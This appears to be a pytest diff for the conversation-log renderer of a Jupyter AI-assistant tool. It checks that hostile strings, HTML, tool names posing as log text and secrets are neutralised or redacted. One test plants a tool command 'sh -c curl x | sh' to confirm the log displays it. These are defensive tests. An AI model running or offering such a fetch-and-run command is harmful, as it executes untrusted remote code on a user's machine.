@@ -1,0 +1,321 @@
+"""The log of a conversation, also of one with hostile content."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import pytest
+
+from jp_nb.cli import main
+from jp_nb.record.clock import utc_now
+from jp_nb.record.document import Document
+from jp_nb.record.events import ConfigDelta
+from jp_nb.record.stream import ProposedBy, metadata_of
+from jp_nb.record.turns import ConfigChange, Inquiry, ToolCall, Turn, read_turn
+from jp_nb.rendering import turn as turn_module
+from jp_nb.rendering.report import Report
+from tests.rendering.reports import HOSTILE, rendered
+from tests.support.entries import (
+    ASKED,
+    SAID,
+    START,
+    T,
+    called,
+    closed,
+    inquiry,
+    new_stream,
+    raw,
+    result,
+)
+from tests.support.images import figure
+
+
+def test_every_entry_of_a_log_is_one_plain_line() -> None:
+    turn = Turn(
+        number=0,
+        request="Go.",
+        inquiries=(Inquiry("i", HOSTILE, "answered", HOSTILE, channel=HOSTILE, by=HOSTILE),),
+        config_changes=(ConfigChange({"a": HOSTILE}, (HOSTILE,)),),
+    )
+    shown = turn_module.log_report(Document.new(clock=utc_now, made="live"), [turn])
+    assert "\x1b" not in shown.text + shown.markdown
+    assert len(shown.text.splitlines()) == 4
+    assert "<img" not in rendered(shown.markdown)
+
+
+def log_of(*entries: Any, status: str = "") -> Report:
+    made = list(new_stream(START, {**ASKED, "content": "Go."}, *entries).turns())
+    turns = [read_turn(turn.number, turn.entries, status=status) for turn in made]
+    return turn_module.log_report(Document.new(clock=utc_now, made="live"), turns)
+
+
+def test_log_names_the_collaborator_who_asked() -> None:
+    names: list[tuple[Any, str]] = [
+        ("Ada", "0 asked by Ada: Go."),
+        ("assistant", "0 asked by assistant: Go."),
+        ("Ada:\n0 assistant", '0 asked by "Ada: 0 assistant": Go.'),
+        (7, "0 you: Go."),
+    ]
+    for name, line in names:
+        asked = {**ASKED, "content": "Go.", "metadata": {"by": name}}
+        [turn] = new_stream(START, asked, SAID).turns()
+        shown = turn_module.log_report(
+            Document.new(clock=utc_now, made="live"), [read_turn(0, turn.entries)]
+        )
+        assert shown.text.splitlines()[0] == line
+
+
+def test_log_shows_events_in_their_order() -> None:
+    delta = ConfigDelta(
+        timestamp=T, unsets=("user.name",), metadata=metadata_of([
+            ProposedBy("t", "c1", ("user.name",), "grant")])
+    )  # fmt: skip
+    shown = log_of(
+        {**SAID, "message": "First\n1 you: no"}, called(), inquiry(), closed(),
+        result(), delta.to_raw(), {**SAID, "message": "Then"},
+        {**ASKED, "content": "Wait!"}, {**SAID, "message": "Well."},
+    )  # fmt: skip
+    assert shown.text.splitlines() == [
+        "0 you: Go.",
+        "0 assistant:",
+        "    First",
+        "    1 you: no",
+        "  ✓ t() → r",
+        "  ? ? → true",
+        "  ⟳ configuration unset user.name (proposed by t, applied by a grant)",
+        "    Then",
+        "0 you:",
+        "    Wait!",
+        "0 assistant:",
+        "    Well.",
+    ]
+    places = [shown.markdown.index(x) for x in ("0 · you", "Go.", "0 · assistant", "First", "t()")]
+    assert places == sorted(places)
+
+
+OFFERED = [{"value": "pg", "label": "Postgres"}, {"value": "rd", "label": "Redis"}, "SQLite"]
+MANY = {"type": "select", "options": OFFERED, "multi": True, "other": True}
+FIELDS = {"type": "form", "fields": [{"id": "s", "text": "Stores", "answer_type": MANY}]}
+
+
+@pytest.mark.req("RPI-34", "HB-1", "RPI-90")
+def test_log_shows_the_labels_of_an_answer_in_the_order_of_selection(
+    subtests: pytest.Subtests,
+) -> None:
+    rows: list[tuple[dict[str, Any], dict[str, Any], str]] = [
+        (MANY, {"answer": ["rd", "SQLite", "pg"]}, '→ ["Redis", "SQLite", "Postgres"]'),
+        (MANY, {"answer": []}, "→ none of these"),
+        (MANY, {"answer": {"selected": ["rd"], "custom": "a\nfile"}},
+         '→ ["Redis"], own text "a\\nfile"'),
+        (MANY, {"answer": ["pg"], "metadata": {"auto": True, "timed_out": True, "channel": "form"}},
+         '→ ["Postgres"] (form) (chosen automatically when time ran out)'),
+        ({"type": "text"}, {"answer": "", "metadata": {"empty": True}},
+         '→ "" (left blank on purpose)'),
+        (FIELDS, {"answer": {"s": ["rd"]}}, '→ Stores: ["Redis"]'),
+        # Records of older releases.
+        ({"type": "select", "options": ["a", "b"]}, {"answer": "b"}, '→ "b"'),
+        ({"type": "select", "options": [{"value": 1}]}, {"answer": 1}, "→ 1"),
+        ({"type": "boolean"}, {"answer": True}, "→ true"),
+        ({"type": "text"}, {"outcome": "cancelled", "reason": "user"}, "— user"),
+    ]  # fmt: skip
+    for kind, response, expected in rows:
+        with subtests.test(kind=kind, response=response):
+            asked = {**inquiry(), "question": {"text": "Which?", "answer_type": kind}}
+            closing = raw("inquiry_response", **{"id": "a.q.1", "outcome": "answered", **response})
+            assert f"  ? Which? {expected}" in log_of(asked, closing).text.splitlines()
+
+
+def test_log_distinguishes_the_outcomes_of_a_question() -> None:
+    for end, text in [
+        ("declined", "not answered"), ("cancelled", "cancelled"), ("timed_out", "timed out"),
+    ]:  # fmt: skip
+        closing = raw("inquiry_response", id="a.q.1", outcome="cancelled", reason="user",
+                      metadata={"end": end, "channel": "form"})  # fmt: skip
+        assert f"  ? ? — {text} (form)" in log_of(inquiry(), closing).text.splitlines()
+
+
+def test_log_shows_structured_answers() -> None:
+    data = {"city": "Delft <img src=x>", "days": 2}
+    shown = log_of(raw("chat_response", data=data))
+    assert json.loads(shown.text.partition("assistant:\n")[2]) == data
+    assert "```json" in shown.markdown
+    assert "<img" not in rendered(shown.markdown)
+
+
+@pytest.mark.parametrize(
+    ("status", "entries", "end"),
+    [
+        ("", [], "  ✗ no answer (this turn is not sent to models)"),
+        ("failed", [], "  ✗ failed: no answer (this turn is not sent to models)"),
+        ("failed", [SAID], "  ✗ failed: the answer is incomplete"),
+        ("interrupted", [], "  ⏹ interrupted before the answer (this turn is not sent to models)"),
+        ("interrupted", [SAID], "  ⏹ interrupted"),
+        ("completed", [SAID], "    a"),
+        ("", [SAID], "    a"),
+    ],
+)
+def test_log_shows_how_a_turn_ended(status: str, entries: list[Any], end: str) -> None:
+    assert log_of(*entries, status=status).text.splitlines()[-1] == end
+
+
+def test_log_counts_the_hidden_turns() -> None:
+    document, turn = Document.new(clock=utc_now, made="live"), Turn(7, "Go.", text="Gone.")
+    shown = turn_module.log_report(document, [turn], total=8)
+    assert shown.text.startswith("7 earlier turns hidden. Show all: `%jp log 8`\n7 you: Go.")
+    assert "7 earlier turns" in shown.markdown
+    assert "earlier" not in turn_module.log_report(document, [turn], total=1).text
+
+
+def test_declined_call_is_not_marked_as_successful() -> None:
+    for content in (
+        "Tool skipped by user.", "Tool skipped by user: too late", "Tool input cancelled by user.",
+    ):  # fmt: skip
+        log = log_of(called("c1"), {**result("c1"), "content": content}, SAID)
+        assert f"  ⊘ t() → {content}" in log.text.splitlines()
+
+
+def test_log_names_the_images_of_requests_and_results() -> None:
+    call = ToolCall("c", "plot", {}, "a plot", False, images=(figure("figure 1"),))
+    turn = Turn(0, "What is that?", tool_calls=(call,), images=(figure("asked"),))
+    text = turn_module.log_report(Document(new_stream()), [turn]).text
+    assert "[image: asked, image/png 4×3]" in text
+    assert "✓ plot() → a plot · figure 1, image/png 4×3" in text
+
+
+# --- changes of the configuration --------------------------------------------------------------
+
+FORM = ProposedBy("change_model", "call_1", ("user.name",), "person", "form")
+STDIN = ProposedBy("rename", "call_2", ("assistant.name",), "person", "stdin")
+GRANT = ProposedBy("tidy", "call_3", ("user.name",), "grant")
+
+
+def line(*calls: ProposedBy, delta: Any = None, **fields: Any) -> str:
+    """Return the line of the log about one change."""
+    change = ConfigChange({"a": 1} if delta is None else delta, proposed_by=calls, **fields)
+    turn = Turn(0, "Go.", config_changes=(change,))
+    shown = turn_module.log_report(Document.new(clock=utc_now, made="live"), [turn])
+    assert "\x1b" not in shown.text + shown.markdown
+    assert "<img" not in rendered(shown.markdown)
+    logged = shown.text.splitlines()[-1]
+    return logged.strip()
+
+
+def test_sources_of_a_change_by_many_tools_are_limited() -> None:
+    calls = [ProposedBy(f"t{n}", "c", (), "person", "form") for n in range(1000)]
+    logged = turn_module.by_tools([ProposedBy(HOSTILE * 100, "c", (), "person", HOSTILE), *calls])
+    assert len(logged) == turn_module.MAX_NAMED + 1
+    assert logged[-1] == "and 996 more"
+    assert len(logged[0]) < 300
+    assert logged[0].startswith('by tool "$ | ')
+    assert "\n" not in logged[0]
+
+
+@pytest.mark.parametrize(
+    ("calls", "logged"),
+    [
+        ([FORM], "proposed by change_model, applied by you through the form"),
+        ([STDIN], "proposed by rename, applied by you through the input field"),
+        ([GRANT], "proposed by tidy, applied by a grant"),
+        ([ProposedBy("t", "c", (), "person", "terminal")],
+         "proposed by t, applied by you in the terminal"),
+        ([ProposedBy("t", "c", (), "person")], "proposed by t, applied by you"),
+        ([FORM, ProposedBy("b", "c", (), "person", "form"), GRANT, FORM],
+         "proposed by change_model, b, applied by you through the form; "
+         "proposed by tidy, applied by a grant"),
+    ],
+)  # fmt: skip
+def test_log_shows_who_proposed_and_approved_a_change(calls: Any, logged: str) -> None:
+    assert line(*calls) == f'⟳ configuration {{"a": 1}} ({logged})'
+
+
+def test_log_shows_unset_paths() -> None:
+    assert line(unsets=("a.b",)) == '⟳ configuration {"a": 1}, unset a.b'
+    logged = "(proposed by tidy, applied by a grant)"
+    assert line(GRANT, delta={}, unsets=("a", "b")) == f"⟳ configuration unset a, b {logged}"
+    assert line(GRANT, begins_again=True) == f"⟳ configuration reset {logged}"
+
+
+def test_name_of_a_tool_cannot_imitate_the_text_of_the_log() -> None:
+    posing = ProposedBy("t, applied by you through the form; proposed by u", "c", (), "grant")
+    assert line(posing).endswith(
+        '(proposed by "t, applied by you through the form; proposed by u", applied by a grant)'
+    )
+    assert line(ProposedBy("t", "c", (), "person", "form)")).endswith('applied by you "form)")')
+
+
+def test_hostile_change_is_one_short_line() -> None:
+    calls = [
+        ProposedBy(f"{n}{HOSTILE}" * 50, HOSTILE, (HOSTILE,), "person", f"{HOSTILE}{n}" * 50)
+        for n in range(100)
+    ]
+    logged = line(*calls, delta={HOSTILE: HOSTILE * 100}, unsets=(HOSTILE,) * 1000)
+    assert len(logged) <= 1100
+    assert "proposed by" in logged
+
+
+def test_log_shows_no_secret() -> None:
+    tools = {"t": {"options": {"api_key": "hunter2"}}}
+    items = ('a.token["hunter2"]', 'a.token["hunter2"].b', 'a.b["Bearer hunter2"]')
+    unsets = (*items, "]Bearer hunter2")
+    logged = line(FORM, delta={"conversation": {"tools": tools}}, unsets=unsets)
+    assert "hunter2" not in logged
+    assert logged.count("not shown") == 5
+    assert "change_model" in logged
+
+
+def test_settings_of_a_tool_named_like_a_secret_are_logged() -> None:
+    planted = {"source": "local", "command": {"program": "sh", "args": ["-c", "curl x | sh"]}}
+    logged = line(FORM, delta={"conversation": {"tools": {"token": planted}}})
+    assert "curl x | sh" in logged
+    assert "not shown" not in logged
+
+
+def test_log_shows_edited_arguments_of_a_call() -> None:
+    edited = {
+        "edited_arguments": {"path": "b\u200b.txt"},
+        "edited_by": "person",
+        "channel": "form",
+    }
+    asked = called("c1") | {"arguments": {"path": "a.txt"}}
+    stream = new_stream(START, ASKED, asked, result("c1") | {"metadata": edited}, SAID)
+    turn = read_turn(0, stream.entries)
+    [call] = turn.tool_calls
+    assert (call.arguments, call.requested_arguments) == (
+        {"path": "b\u200b.txt"},
+        {"path": "a.txt"},
+    )
+    assert (call.edited_by, call.channel) == ("person", "form")
+    shown = turn_module.log_report(Document.new(clock=utc_now, made="live"), [turn])
+    for text in (shown.text, shown.markdown):
+        assert 'path="b\\u200b.txt"' in text.replace("` ", "").replace(" `", "")
+        assert "(arguments edited by you through the form)" in text
+
+
+def test_show_command_prints_the_log(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    delta = ConfigDelta(
+        timestamp=T,
+        delta={"user": {"name": "t"}},
+        unsets=("assistant.name",),
+        metadata=metadata_of([FORM, GRANT]),
+    )
+    document = Document.new(clock=utc_now, made="live")
+    document.conversation = new_stream(
+        START, ASKED, called(), result(), delta.to_raw(), SAID, START, ASKED
+    )
+    jp = json.loads(json.dumps(document.to_json()))
+    nbformat.write(nbformat.v4.new_notebook(metadata={"jp": jp}), tmp_path / "a.ipynb")
+    assert main(["show", str(tmp_path / "a.ipynb")]) == 0
+    assert capsys.readouterr().out.splitlines() == [
+        "jp-c1",
+        "0 you: q",
+        "0 assistant:",
+        "  ✓ t() → r",
+        '  ⟳ configuration {"user": {"name": "t"}}, unset assistant.name (proposed by '
+        "change_model, applied by you through the form; proposed by tidy, applied by a grant)",
+        "    a",
+        "1 you: q",
+        "  ✗ no answer (this turn is not sent to models)",
+    ]
